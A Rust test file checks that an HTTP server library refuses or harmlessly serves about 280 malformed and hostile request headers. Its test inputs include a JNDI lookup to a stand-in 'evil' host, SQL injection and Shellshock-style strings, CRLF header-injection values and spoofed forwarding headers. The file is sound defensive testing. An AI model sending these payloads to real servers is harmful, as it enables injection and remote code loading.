//! Headers of a stranger: each is refused, or is a value like others, which moves no line, no address and no path.

use std::net::{IpAddr, Ipv4Addr};

use tegami::{
    Error,
    http::{
        ClientAddress,
        axum::{
            http::{HeaderMap, Method},
            routing::any,
        },
    },
};

use crate::framing::{
    BAD, Case,
    Fate::{self, Refused, Served},
    case, each_has_its_fate,
};

const INPUTS: usize = 280;
const LARGE: Fate = Refused(&[431]);
/// What no name of a header has in it, beside control characters (RFC 9110, 5.6.2).
const DELIMITERS: &[u8] = b" \"(),/;<=>?@[\\]{}";
/// The header that nobody sends as one.
const INJECTED: &str = "x-injected";

fn with(lines: impl AsRef<[u8]>, fate: Fate) -> Case {
    case([b"GET / HTTP/1.1\r\nHost: a\r\n", lines.as_ref(), b"\r\n\r\n"].concat(), fate)
}

fn named(name: &str, value: impl AsRef<str>, fate: Fate) -> Case {
    with(format!("{name}: {}", value.as_ref()), fate)
}

/// Each byte that cannot stand in a name.
fn names() -> impl Iterator<Item = Case> {
    let controls = (0..0x20).chain([0x7f]);
    let bytes = controls.chain(DELIMITERS.iter().copied()).chain([0x80, 0xc3, 0xff]);
    let inside = bytes.map(|byte| with([b"x-a", &[byte][..], b"b: y"].concat(), BAD));
    let whole = [": y", "é: y", "x", "x y", "\u{feff}x: y", "=", "GET / HTTP/1.1"].map(|line| with(line, BAD));
    let tokens = with("!#$%&'*+-.^_`|~09azAZ: y", Served);
    inside.chain(whole).chain([tokens])
}

/// Each byte that cannot stand in a value, and those that can, though few expect them.
fn values() -> impl Iterator<Item = Case> {
    let value = |byte: u8, fate| with([b"x: a", &[byte][..], b"b"].concat(), fate);
    let controls = (0..0x20).filter(|byte| *byte != b'\t').chain([0x7f]);
    let bad = controls.map(move |byte| value(byte, BAD));
    let good = [b'\t', 0x80, 0xa0, 0xe9, 0xff].map(|byte| value(byte, Served));
    let texts =
        ["", "   ", "\t", ",,,,", ";;;;", "\"", "\\", "\u{202e}", "👩‍👩‍👧", "%", "${jndi:ldap://evil}", "' or 1=1 --"];
    bad.chain(good).chain(texts.map(|text| named("x", text, Served)))
}

/// Line breaks as others spell them, with a header behind each.
fn line_breaks() -> impl Iterator<Item = Case> {
    let breaks = ["\r", "\n", "\n\r", "\r\r\n", "\0\r\n", "\r\n ", "\r\n\t", "\u{b}", "\u{c}", "\u{1e}"];
    let harmless = [
        "%0d%0a",
        "%0D%0A",
        "%250d%250a",
        "\\r\\n",
        "&#13;&#10;",
        "\\u000d\\u000a",
        "=0D=0A",
        "\u{85}",
        "\u{2028}",
        "\u{2029}",
        "嘍嘊",
        "č Ċ",
        "?",
        "\u{2424}",
    ];
    let after = |text: &str, fate| named("x", format!("y{text}{INJECTED}: 1"), fate);
    breaks.map(|text| after(text, BAD)).into_iter().chain(harmless.map(|text| after(text, Served)))
}

/// Hosts that are none (RFC 9112, 3.2), and some that are.
fn hosts() -> impl Iterator<Item = Case> {
    let asked = |lines: &str, fate| case(format!("GET / HTTP/1.1\r\n{lines}\r\n\r\n"), fate);
    let bad = [
        "x: y",
        "Host: a\r\nHost: a",
        "Host: a\r\nHost:",
        "Host: a b",
        "Host: a, b",
        "Host: a\tb",
        "Host: a/",
        "Host: a/../b",
        "Host: http://a",
        "Host: a?b",
        "Host: a#b",
        "Host: a\\b",
        "Host: user@a",
        "Host: user:tiger@a",
        "Host: @a",
        "Host: <a>",
        "Host: \"a\"",
        "Host: {a}",
        "Host: a|b",
        "Host: ^a",
        "Host: `a`",
        "Host: ä",
        "Host: \u{202e}a",
        "Host : a",
        " Host: a",
        "Host:\r\n a",
    ];
    let good =
        ["Host:", "Host: a:80", "Host: A.", "Host: [::1]:80", "Host: a%20b", "Host: 127.0.0.1", "Host: a_b", "HOST:a"];
    bad.map(move |lines| asked(lines, BAD)).into_iter().chain(good.map(move |lines| asked(lines, Served)))
}

/// Who asks, from where and for what, as only a proxy may say it, or nobody.
fn claims() -> impl Iterator<Item = Case> {
    let addresses = [
        "X-Forwarded-For",
        "Forwarded-For",
        "X-Forwarded",
        "X-Real-IP",
        "X-Client-IP",
        "Client-IP",
        "True-Client-IP",
        "CF-Connecting-IP",
        "Fastly-Client-IP",
        "X-Cluster-Client-IP",
        "X-Originating-IP",
        "X-Remote-IP",
        "X-Remote-Addr",
        "X-ProxyUser-IP",
        "Via",
    ];
    let others = [
        ("Forwarded", "for=203.0.113.9;host=evil;proto=https"),
        ("X-Forwarded-Host", "evil"),
        ("X-Host", "evil"),
        ("X-Forwarded-Server", "evil"),
        ("X-Forwarded-Port", "1"),
        ("X-Forwarded-Proto", "https"),
        ("X-Forwarded-Prefix", "/hidden"),
        ("Front-End-Https", "on"),
        ("Proxy", "http://evil"),
        ("X-Original-URL", "/hidden"),
        ("X-Rewrite-URL", "/hidden"),
        ("X-Original-Host", "evil"),
        ("X-HTTP-Method-Override", "DELETE"),
        ("X-HTTP-Method", "DELETE"),
        ("X-Method-Override", "DELETE"),
        ("Authorization", "Basic Og=="),
        ("Cookie", "a=b; a=c; =; ;; $Version=1"),
        ("Content-Type", "text/html\u{ff}; charset=utf-7"),
        ("Content-Encoding", "gzip, deflate, br, zstd, gzip"),
        ("Max-Forwards", "-1"),
        ("From", "root"),
        ("Referer", "javascript:alert(1)"),
        ("User-Agent", "() { :; }; /bin/true"),
    ];
    let from = addresses.map(|name| named(name, "203.0.113.9", Served));
    from.into_iter().chain(others.map(|(name, value)| named(name, value, Served)))
}

/// Words about the connection, of which a client has few to say.
fn connections() -> impl Iterator<Item = Case> {
    let lines = [
        "Connection: host",
        "Connection: keep-alive, x, y",
        "Connection: ,,,",
        "Connection: \"close\"",
        "Connection: x-forwarded-for",
        "Keep-Alive: timeout=999999999999999999999, max=-1",
        "Proxy-Connection: keep-alive",
        "Upgrade: h2c",
        "Upgrade: TLS/1.0",
        "Upgrade: websocket",
        "HTTP2-Settings: !!!!",
        "TE: trailers",
        "TE: chunked",
        "Trailer: Host, Content-Length",
        "Expect: nothing",
        "Content-Length: 0",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        "Date: Thu, 32 Foo 99999 25:61:61 GMT",
        "If-Modified-Since: never",
        "Accept: ;q=2, */*;q=-1, text/html;q=0.00000000001",
        "Accept-Encoding: *;q=0, identity;q=0",
        "Accept-Language: \"",
    ];
    lines.into_iter().map(|line| with(line, Served))
}

/// Traces and conversations that are none.
fn traces() -> impl Iterator<Item = Case> {
    let (trace, span) = ("4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7");
    let parents = [
        String::new(),
        "00".to_owned(),
        format!("00-{trace}"),
        format!("00-{trace}-{span}"),
        format!("00-{trace}-{span}-"),
        format!("00-{trace}-{span}-1"),
        format!("00-{trace}-{span}-01-"),
        format!("00-{trace}-{span}-01-more"),
        format!("00-{trace}-{span}-0g"),
        format!("ff-{trace}-{span}-01"),
        format!("0-{trace}-{span}-01"),
        format!("00_{trace}_{span}_01"),
        format!("00-{}-{span}-01", "0".repeat(32)),
        format!("00-{trace}-{}-01", "0".repeat(16)),
        format!("00-{}-{span}-01", trace.to_uppercase()),
        format!("00-{trace}0-{span}-01"),
        format!("00-{trace}-{span}-01, 00-{trace}-{span}-01"),
        format!("00-{trace}-{span}-01\r\ntraceparent: 00-{trace}-{span}-00"),
        format!("00-{trace}-é067aa0ba902b7-01"),
    ];
    let ids = ["", "a b", "é", "\u{202e}", "..", "%00"].map(str::to_owned);
    let ids = ids.into_iter().chain(["i".repeat(129), "i".repeat(10_000), "c-1\r\nx-correlation-id: c-2".to_owned()]);
    let states = ["=", "a", "a=b,a=c", "@=1", "é=1"].map(str::to_owned);
    let states = states.into_iter().chain([vec!["a=b"; 1_000].join(","), "a=".to_owned() + &"b".repeat(10_000)]);
    let parents = parents.into_iter().map(|value| named("traceparent", value, Served));
    let ids = ids.map(|value| named("x-correlation-id", value, Served));
    parents.chain(ids).chain(states.map(|value| named("tracestate", value, Served)))
}

/// Much of one thing, beneath the limits and beyond them.
fn sizes() -> impl Iterator<Item = Case> {
    let times = |text: &str, count: usize| text.repeat(count);
    let served = [
        ("X-Forwarded-For", times("203.0.113.9, ", 2_000)),
        ("Accept", times("a/b;q=0.5,", 2_000)),
        ("Accept-Encoding", times("gzip;q=0.5,", 2_000)),
        ("Range", format!("bytes={}", times("0-,", 5_000))),
        ("If-None-Match", times("\"a\",", 5_000)),
        ("Cookie", times("a=b; ", 5_000)),
        ("Connection", times("x,", 10_000)),
        ("Content-Type", format!("a/b;{}", times("c=d;", 5_000))),
        ("X", times("\t", 30_000)),
        ("X", times("é", 15_000)),
    ];
    let large = [
        named("X", times("y", 33_000), LARGE),
        named("X", times("y", 300_000), LARGE),
        named("Cookie", times("a=b; ", 10_000), LARGE),
        named(&times("x", 33_000), "y", LARGE),
        with(times("X: y\r\n", 99) + "X: y", LARGE),
        with((0..200).map(|n| format!("X{n}: y\r\n")).collect::<String>() + "X: y", LARGE),
        with(times("Cookie: a=b\r\n", 200) + "X: y", LARGE),
    ];
    served.map(|(name, value)| named(name, value, Served)).into_iter().chain(large)
}

fn all() -> Vec<Case> {
    let written = names().chain(values()).chain(line_breaks()).chain(hosts());
    written.chain(claims()).chain(connections()).chain(traces()).chain(sizes()).collect()
}

/// Says what a header has moved.
async fn moved(method: Method, ClientAddress(from): ClientAddress, headers: HeaderMap) -> &'static str {
    match () {
        () if headers.contains_key(INJECTED) => "a line",
        () if from != IpAddr::V4(Ipv4Addr::LOCALHOST) => "the address",
        () if method != Method::GET => "the method",
        () => "hello",
    }
}

#[tokio::test]
async fn w2_no_header_of_a_stranger_moves_anything() -> Result<(), Error> {
    let cases = all();
    assert_eq!(cases.len(), INPUTS, "the corpus only grows");
    each_has_its_fate(any(moved), cases).await
}
